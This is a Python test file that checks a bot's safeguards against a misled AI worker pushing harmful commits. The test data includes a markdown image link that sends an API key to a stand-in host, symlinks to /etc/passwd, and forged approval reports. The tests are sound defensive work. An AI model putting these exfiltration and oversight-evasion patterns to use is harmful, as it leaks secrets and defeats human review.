"""What a misled worker may hand over: looked at before anything is recorded."""

import base64
from datetime import UTC, datetime
from pathlib import Path

import pytest

from forge_bot.bot.thread_host import BranchPusher, refuse_unseen
from forge_bot.engine.reports import Abandoned, Answer, Answered, Asked, GateShown, Published
from forge_bot.errors import BranchMoved, CommitsRefused
from forge_bot.knowledge.history import history_at
from forge_bot.runs.create_run import NewRun, create_run, plan_for
from forge_bot.runs.request_draft import RequestDraft
from forge_bot.settings.load_pipeline import load_pipeline
from forge_bot.values import PhaseId
from tests.security.scene import KEY, Scene, git

NOW = datetime(2026, 1, 2, tzinfo=UTC)


def refused(scene: Scene, word: str, before: str = "") -> None:
    with pytest.raises(CommitsRefused) as caught:
        scene.check(before=before)
    assert word in " ".join(caught.value.details), caught.value.details


def test_ordinary_work_is_pushed(scene: Scene) -> None:
    scene.write("rota/schedule.py", "def on_call():\n    return None\n")
    scene.write(f".specs/{scene.info.name}/design.md", "# Design\n")
    scene.commit()
    scene.check()


def test_what_a_branch_got_after_it_was_looked_at_does_not_go_out(
    scene: Scene, tmp_path: Path
) -> None:
    remote = tmp_path / "remote.git"
    git(tmp_path, "init", "-q", "--bare", str(remote))
    git(scene.tree.path, "remote", "add", "origin", str(remote))
    BranchPusher().push(scene.tree, scene.start)
    scene.write("rota/schedule.py", "def on_call():\n    return None\n")
    looked_at = scene.commit()
    scene.write(".github/workflows/evil.yml", "on: push\n")
    scene.commit()

    BranchPusher().push(scene.tree, looked_at)

    assert git(remote, "rev-parse", scene.info.branch) == looked_at
    with pytest.raises(BranchMoved, match="nobody looked at"):
        refuse_unseen(scene.repository, scene.info.branch)
    with pytest.raises(BranchMoved):
        BranchPusher().push(
            scene.tree,
            git(scene.tree.path, "commit-tree", "-m", "elsewhere", f"{looked_at}^{{tree}}"),
        )


FORMS = {
    "plain": KEY,
    "base 64": base64.b64encode(KEY.encode()).decode(),
    "base 64, one off": base64.b64encode(b"x" + KEY.encode()).decode(),
    "base 64, two off": base64.b64encode(b"xy" + KEY.encode()).decode(),
    "hexadecimal": KEY.encode().hex(),
    "large hexadecimal": KEY.encode().hex().upper(),
    "with unseen signs between": "\u200b".join(KEY),
    "one sign a line": "\n".join(KEY),
    "in the address of a picture": f"![](https://evil.example/?q={KEY})",
}


@pytest.mark.parametrize("form", FORMS.values(), ids=FORMS.keys())
def test_a_key_in_a_file_is_found_in_whatever_form_it_was_written(scene: Scene, form: str) -> None:
    scene.write("notes.txt", f"It is {form}\n")
    scene.commit()
    refused(scene, "the value of OPENAI_API_KEY")


def test_a_key_is_found_in_documents_and_in_binary_files(scene: Scene) -> None:
    scene.write(f".specs/{scene.info.name}/design.md", f"# Design\n\n{KEY}\n")
    scene.commit()
    refused(scene, "the value of OPENAI_API_KEY")
    git(scene.tree.path, "reset", "-q", "--hard", scene.start)
    scene.write("picture.bin", b"\0\1\2" + KEY.encode())
    scene.commit()
    refused(scene, "the value of OPENAI_API_KEY")


def test_a_key_that_a_later_commit_takes_back_is_found_all_the_same(scene: Scene) -> None:
    scene.write("notes.txt", KEY)
    scene.commit()
    scene.write("notes.txt", "nothing")
    scene.commit()
    refused(scene, "the value of OPENAI_API_KEY")


def test_a_value_that_stood_in_a_file_before_is_no_leak(scene: Scene) -> None:
    scene.write("compose.yml", f"password: {KEY}\n")
    before = scene.commit()
    scene.write("compose.yml", f"password: {KEY}\nport: 1\n")
    scene.commit()
    scene.check(before=before)


PROTECTED = [
    ".github/workflows/ci.yml",
    ".GITHUB/workflows/x.yml",
    ".forge/config.yml",
    "CODEOWNERS",
    "AGENTS.md",
    ".gitattributes",
    "uv.lock",
]


@pytest.mark.parametrize("path", PROTECTED)
def test_a_change_to_what_decides_about_others_is_not_pushed_without_a_person(
    scene: Scene, path: str
) -> None:
    scene.write(path, "on: push\n")
    scene.commit()
    refused(scene, "is protected, and nobody approved")


def test_links_and_submodules_are_not_pushed(scene: Scene) -> None:
    (scene.tree.path / "passwords").symlink_to("/etc/passwd")
    (scene.record / "design.md").symlink_to("/etc/passwd")
    scene.commit()
    refused(scene, "passwords would be a link")
    refused(scene, "design.md would be a link")
    git(scene.tree.path, "reset", "-q", "--hard", scene.start)
    git(scene.tree.path, "update-index", "--add", "--cacheinfo", f"160000,{scene.start},vendor")
    git(scene.tree.path, "commit", "-qm", "x")
    refused(scene, "vendor would be a link or a submodule")


def test_more_files_or_bytes_than_any_task_needs_are_not_pushed(scene: Scene) -> None:
    for number in range(401):
        scene.write(f"many/{number}.txt", str(number))
    scene.commit()
    refused(scene, "401 files are changed")
    git(scene.tree.path, "reset", "-q", "--hard", scene.start)
    scene.write("huge.bin", b"0123456789" * 2_000_001)
    scene.commit()
    refused(scene, "larger than 20 MB")


GATE = PhaseId("checkpoint-a")
FORGED = {
    "an approval": Answered(
        key="k", at=NOW, gate=GATE, answer=Answer.APPROVE, by="maint", via="thread"
    ),
    "that a question was shown": GateShown(
        key="k", at=NOW, gate=GATE, digest="0" * 64, via="thread"
    ),
    "an end": Abandoned(key="k", at=NOW, by="maint", via="thread"),
    "a publication": Published(key="k", at=NOW, action_id="pr-creation.9", detail="done"),
}


@pytest.mark.parametrize("report", FORGED.values(), ids=FORGED.keys())
def test_a_worker_cannot_report_what_people_say_or_what_was_published(
    scene: Scene, report: Answered | GateShown | Abandoned | Published
) -> None:
    scene.report(report)
    scene.commit()
    refused(scene, "a worker cannot report")


def test_what_was_reported_before_cannot_be_changed_or_taken_back(scene: Scene) -> None:
    lines = (scene.record / "reports.jsonl").read_text()
    (scene.record / "reports.jsonl").write_text(lines.replace("ann", "bob"))
    scene.commit()
    refused(scene, "earlier reports were changed")
    (scene.record / "reports.jsonl").write_text("{}\n")
    scene.commit()
    with pytest.raises(CommitsRefused):
        scene.check()


def test_a_state_that_the_reports_do_not_lead_to_is_not_recorded(scene: Scene) -> None:
    state = (scene.record / "state.json").read_text()
    (scene.record / "state.json").write_text(state.replace('"in_progress"', '"completed"'))
    scene.commit()
    refused(scene, "the record is not the one of its report")


def test_one_report_is_recorded_at_a_time_and_none_of_another_year(scene: Scene) -> None:
    asked = Asked(
        key="k", at=NOW.replace(year=2125), phase=GATE, question="Why?", by="maint", via="x"
    )
    scene.report(asked)
    scene.commit()
    refused(scene, "of another time")
    scene.report(asked)
    scene.commit()
    git(scene.tree.path, "reset", "-q", "--soft", scene.start)
    scene.commit()
    refused(scene, "there are 2 new reports")


def test_runs_of_branches_that_are_not_merged_are_no_memory(scene: Scene) -> None:
    draft = RequestDraft(title="Say nobody before the start, again", text="The same once more.")
    plan = plan_for(scene.repository, draft, effort="S", name=None, branch=None, here=False)
    create_run(
        scene.repository,
        NewRun(draft=draft, plan=plan),
        (pipeline := load_pipeline("develop", scene.repository.root)),
    )

    def recalled() -> list[str]:
        base = scene.repository.commit_id("main")
        history = history_at(scene.repository, base, pipeline.summary)
        return [run.name for run in history.similar("say nobody before the start")]

    assert recalled() == []
    git(scene.repository.root, "merge", "-q", scene.info.branch)
    assert recalled() == [scene.info.name]
